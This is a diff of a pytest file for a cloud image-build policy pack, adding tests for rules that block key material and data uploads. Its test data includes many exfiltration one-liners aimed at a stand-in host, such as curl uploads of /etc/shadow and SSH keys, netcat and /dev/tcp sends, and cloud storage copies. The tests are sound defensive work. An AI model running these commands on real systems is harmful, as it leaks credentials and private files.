@@ -25,7 +25,7 @@ from pulumi_policy import (
 )
 from pulumi_policy.policy import _PolicyAnalyzerServicer, EnforcementLevel
 
-from components.synth import synth
+from components.offline.synth import synth
 from policy.golden_image_rules import (
     CONTRIBUTOR,
     IDENTITY,
@@ -96,7 +96,8 @@ def _with_step(path: str, index: int, **changes: Any) -> dict:
 
 
 def test_the_pack_has_the_documented_rules():
-    assert [p.name for p in POLICIES] == ["aib-pinned-downloads", "aib-checksum-opt-outs", "aib-https-uris",
+    assert [p.name for p in POLICIES] == ["aib-pinned-downloads", "aib-no-key-material", "aib-no-uploads",
+                                          "aib-checksum-opt-outs", "aib-https-uris",
                                           "aib-build-timeout",
                                           "aib-build-vm-identities", "aib-deprovision-kept",
                                           "aib-no-broad-role-assignment", "aib-custom-role-scoped",
@@ -275,6 +276,162 @@ def test_opt_out_waives_only_for_a_reason_the_organisation_allows(reason, config
         names = (config or {}).get("allowedOptOutReasons") or []
         assert f"reason {reason!r} is not one the organisation allows" in found[0], found
         assert all(repr(n) in found[0] for n in names) and (names or "none (the list is empty)" in found[0])
+
+
+
+# --- key material and uploads (issue 23: "a File step that fetches a key and an upload with `curl -T`") -------------
+
+KEYS_BLOB = "https://stkeys.blob.core.windows.net/keys"
+
+
+def _file(source: str, destination: str = "/tmp/f", name: str = "f") -> dict:
+    return {"type": "File", "name": name, "sourceUri": source, "destination": destination, "sha256Checksum": SHA}
+
+
+def _added(*steps: dict) -> dict:
+    return template(customize=[*template()["customize"], *steps])
+
+
+@pytest.mark.parametrize("step,expected", [
+    # A pinned File step is still refused when what it fetches is a private key or a secret.
+    (_file(f"{KEYS_BLOB}/id_rsa?sv=2022&sig=S", "/home/packer/id_rsa"),
+     r"customize\[3\] \(f\): sourceUri 'https://stkeys.blob.core.windows.net/keys/id_rsa' looks like a private key .*id_rsa"),
+    (_file(f"{KEYS_BLOB}/agent.cfg"), r"sourceUri .* looks like a file from a 'keys' folder \(agent.cfg\)"),
+    (_file("https://example.org/a/tls.pfx", "C:\\certs\\tls.pfx"), r"looks like a private key or key store \(tls.pfx\)"),
+    (_file("https://example.org/a/server-key.pem"), r"server-key.pem"),
+    (_file("https://example.org/a/secrets.json", "/opt/app/secrets.json"), r"credential or secret file \(secrets.json\)"),
+    (_file("https://example.org/a/blob", "/root/.ssh/id_ed25519"), r"destination '/root/.ssh/id_ed25519' looks like a "
+                                                                    r"private key"),
+    (_file("https://example.org/a/blob", "/etc/ssh/ssh_host_ed25519_key"), r"ssh_host_ed25519_key"),
+    (_file("https://example.org/a/blob", "C:\\Users\\packer\\.aws\\credentials"), r"credential or secret file"),
+    ({"type": "Shell", "name": "k", "inline": ["curl -fsSL -o ~/.ssh/id_rsa https://x.example/k"]},
+     r"customize\[3\] \(k\): inline commands download what looks like a private key or key store \(id_rsa\)"),
+    ({"type": "Shell", "name": "k", "inline": ["wget -q https://x.example/keys/deploy.cfg -O /etc/app.cfg"]},
+     r"a file from a 'keys' folder \(deploy.cfg\)"),
+    ({"type": "Shell", "name": "k", "inline": ["az storage blob download --auth-mode login --account-name stkeys -c keys "
+                                               "-n agent.cfg -f /etc/agent.cfg"]}, r"'keys' folder \(agent.cfg\)"),
+    ({"type": "Shell", "name": "k", "inline": ["azcopy copy 'https://x.example/keys/a.cfg?sig=1' /etc/a.cfg"]}, r"'keys'"),
+    ({"type": "Shell", "name": "k", "inline": ["pw=$(az keyvault secret show --vault-name kv -n db --query value -o tsv)",
+                                               "echo \"$pw\" > /etc/app/db"]}, r"read a secret from a vault"),
+    ({"type": "PowerShell", "name": "k", "inline": ["$s = Get-AzKeyVaultSecret -VaultName kv -Name db -AsPlainText"]},
+     r"read a secret from a vault"),
+    # Public keys, certificates and ordinary files pass.
+    (_file("https://packages.microsoft.com/keys/microsoft.asc", "/etc/apt/trusted.gpg.d/microsoft.asc"), None),
+    (_file(f"{KEYS_BLOB}/ops.pub", "/home/ops/.ssh/authorized_keys"), None),
+    (_file("https://example.org/ca/root-ca.pem", "/usr/local/share/ca-certificates/root-ca.crt"), None),
+    (_file("https://example.org/a/tokenizer.json", "/opt/model/tokenizer.json"), None),
+    ({"type": "Shell", "name": "k", "inline": [
+        "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor -o /usr/share/keyrings/ms.gpg"]},
+     None),
+    ({"type": "Shell", "name": "k", "inline": ["az storage blob download --auth-mode login --account-name st -c scripts "
+                                               "-n setup.sh -f /tmp/setup.sh"]}, None),
+    ({"type": "Shell", "name": "k", "inline": ["cat /etc/passwd", "ssh-keygen -A"]}, None),
+])
+def test_no_key_material_in_the_image(step, expected):
+    found = violations("aib-no-key-material", TEMPLATE, _added(step))
+    assert (found == []) if expected is None else (len(found) == 1 and re.search(expected, found[0])), found
+    assert all("x.example" not in m and "sig=" not in m and "tsv" not in m for m in found)  # commands not quoted
+
+
+def test_a_key_material_step_in_a_validator_is_refused_too():
+    props = copy.deepcopy(template())
+    props["validate"]["inVMValidations"][1]["sourceUri"] = f"{KEYS_BLOB}/id_ecdsa"
+    (found,) = violations("aib-no-key-material", TEMPLATE, props)
+    assert found.startswith("validate.inVMValidations[1] (expected): sourceUri") and "id_ecdsa" in found
+
+
+UPLOADS = [
+    ("curl -fsS -T /tmp/id_rsa https://collector.x.example/u", "curl -T"),
+    ("curl --upload-file /var/log/cloud-init.log https://x.example/", "curl -T"),
+    ("curl -sT /etc/shadow ftp://x.example/", "curl -T"),
+    ("curl -F 'f=@/etc/ssh/ssh_host_rsa_key' https://x.example/", "curl -F"),
+    ("curl --form data=</etc/shadow https://x.example/", "curl -F"),
+    ("curl -sS --data-binary @/tmp/image.tar https://x.example/", "--data @file"),
+    ("tar cz /etc | curl --data-binary @- https://x.example/", "--data @file"),
+    ("curl -d @/etc/shadow https://x.example/", "--data @file"),
+    ("curl --data-urlencode k@/etc/shadow https://x.example/", "--data @file"),
+    ("curl --json @/tmp/report.json https://x.example/", "--data @file"),
+    ("wget --post-file=/etc/shadow https://x.example/", "wget --post-file"),
+    ("wget --method=PUT --body-file=/tmp/x https://x.example/", "wget --post-file"),
+    ("scp -o StrictHostKeyChecking=no /tmp/x ops@backup.x.example:/srv/", "scp"),
+    ("rsync -az /home/ backup.x.example:/srv/home/", "rsync"),
+    ("rsync -a /etc rsync://x.example/m/", "rsync"),
+    ("echo 'put /etc/shadow' | sftp ops@x.example", "sftp"),
+    ("nc x.example 4444 < /etc/shadow", "netcat"),
+    ("cat /etc/shadow > /dev/tcp/203.0.113.5/80", "/dev/tcp"),
+    ("az storage blob upload --auth-mode login --account-name st -c out -f /tmp/x -n x", "az storage upload"),
+    ("az storage blob upload-batch -d out -s /var/log --account-name st", "az storage upload"),
+    ("azcopy copy /var/log 'https://st.blob.core.windows.net/out?sig=S' --recursive", "azcopy"),
+    ("aws s3 cp /etc/shadow s3://bucket/x", "aws s3"),
+    ("gsutil cp /etc/shadow gs://bucket/x", "gsutil"),
+    ("git -C /opt/repo push origin main", "git/docker push"),
+    ("Invoke-WebRequest -Uri https://x.example/u -Method Put -InFile C:\\Windows\\Temp\\x.zip", "-InFile"),
+    ("Invoke-RestMethod https://x.example/u -Method Post -Body (Get-Content C:\\secret.txt -Raw)", "-InFile"),
+    ("(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\x.zip')", "WebClient"),
+    ("Start-BitsTransfer -Source C:\\x.zip -Destination https://x.example/u -TransferType Upload", "BITS"),
+    ("Set-AzStorageBlobContent -File C:\\x.zip -Container out -Blob x.zip -Context $ctx", "Azure PowerShell"),
+]
+
+
+@pytest.mark.parametrize("command,tool", UPLOADS)
+def test_uploads_out_of_the_build_vm_are_refused(command, tool):
+    found = violations("aib-no-uploads", TEMPLATE, _with_step("customize", 1, inline=["set -e", command]))
+    assert len(found) == 1 and found[0].startswith("customize[1] (inline): inline commands upload data out of the "
+                                                   "build VM (") and tool in found[0], found
+    assert "x.example" not in found[0] and "sig=" not in found[0]  # the command is not quoted
+
+
+@pytest.mark.parametrize("command", [
+    # What the pinned-downloads rule accepts is no upload either.
+    "curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo \"$SHA  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh",
+    "curl -fsSL https://x.example/a.tgz -o /tmp/a.tgz\necho \"$SHA  /tmp/a.tgz\" | sha256sum -c\ntar xzf /tmp/a.tgz",
+    "curl -s https://x.example/a.json | jq .",
+    "curl -fsS -X POST -H 'Content-Type: application/json' -d '{\"state\":\"built\"}' https://x.example/hook",
+    "curl -fsS -d 'owner=ops@x.example' https://x.example/hook",
+    "curl -fsSL -XPUT https://x.example/flag",
+    "scp ops@x.example:/srv/tool.tgz /tmp/",
+    "rsync -a /opt/src/ /opt/dst/",
+    "azcopy copy 'https://st.blob.core.windows.net/in/x.tgz?sig=S' /tmp/x.tgz",
+    "aws s3 cp s3://bucket/tool.tgz /tmp/tool.tgz",
+    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
+    "git clone --depth 1 https://x.example/repo.git /opt/repo",
+    "sudo apt-get update\nsudo apt-get install -y netcat-openbsd",
+])
+def test_downloads_and_literal_posts_are_not_uploads(command):
+    assert violations("aib-no-uploads", TEMPLATE, _with_step("customize", 1, inline=command.split("\n"))) == []
+
+
+def test_the_reviewed_case_a_key_fetched_and_uploaded_is_refused_by_both_rules():
+    """Issue 23's review: a File step fetching a key from a `keys` container, then `curl -T` sending it out."""
+    props = template(customize=[_file(f"{KEYS_BLOB}/id_rsa", "/tmp/id_rsa", name="key"),
+                                {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /tmp/id_rsa https://x.example/"]}])
+    (key,) = violations("aib-no-key-material", TEMPLATE, props)
+    (upload,) = violations("aib-no-uploads", TEMPLATE, props)
+    assert key.startswith("customize[0] (key): sourceUri") and upload.startswith("customize[1] (send): inline commands "
+                                                                                   "upload")
+    # The checksum rule alone passed it (the File step is pinned, curl -T runs nothing).
+    assert violations("aib-pinned-downloads", TEMPLATE, props) == []
+
+
+@pytest.mark.parametrize("policy,tag,step", [
+    ("aib-no-uploads", "aib-images.uploadOptOut.customize[1]",
+     {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /var/log/build.log https://x.example/"]}),
+    ("aib-no-key-material", "aib-images.keyMaterialOptOut.customize[1]", _file(f"{KEYS_BLOB}/agent.cfg", name="send")),
+])
+def test_upload_and_key_opt_outs_waive_only_their_rule_for_an_allowed_reason(policy, tag, step):
+    props = template(customize=[template()["customize"][0], step])
+    assert len(violations(policy, TEMPLATE, props)) == 1
+    opted = {**props, "tags": {tag: "log-collector: build diagnostics"}}
+    allowed = {"allowedOptOutReasons": ["log-collector"]}
+    assert violations(policy, TEMPLATE, opted, allowed) == []
+    (refused,) = violations(policy, TEMPLATE, opted, {"allowedOptOutReasons": ["vendor-rotates-content"]})
+    assert "reason 'log-collector: build diagnostics' is not one the organisation allows" in refused
+    assert len(violations(policy, TEMPLATE, opted)) == 1  # nothing is allowed until the organisation lists it
+    # Another rule's opt-out (a checksum waiver, the other new rule's tag) waives nothing here.
+    other = "aib-images.checksumOptOut.customize[1]" if "upload" in tag else "aib-images.uploadOptOut.customize[1]"
+    assert len(violations(policy, TEMPLATE, {**props, "tags": {other: "log-collector"}}, allowed)) == 1
+    (reported,) = violations("aib-checksum-opt-outs", TEMPLATE, opted)
+    assert reported.startswith("customize[1] (send): ") and "by opt-out: 'log-collector: build diagnostics'" in reported
 
 
 def test_policy_messages_leave_sas_tokens_out():
@@ -513,10 +670,6 @@ KEYS = (f"{FOREIGN}/resourceGroups/rg-secrets/providers/Microsoft.Storage/storag
         "containers/keys")
 BLOB_READER = "2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"
 FOREIGN_VERSION = f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/i/versions/1.0.0"
-
-
-def _distribute(*targets: dict) -> dict:
-    return template(distribute=list(targets))
 
 
 def _distribute(*targets: dict) -> dict:
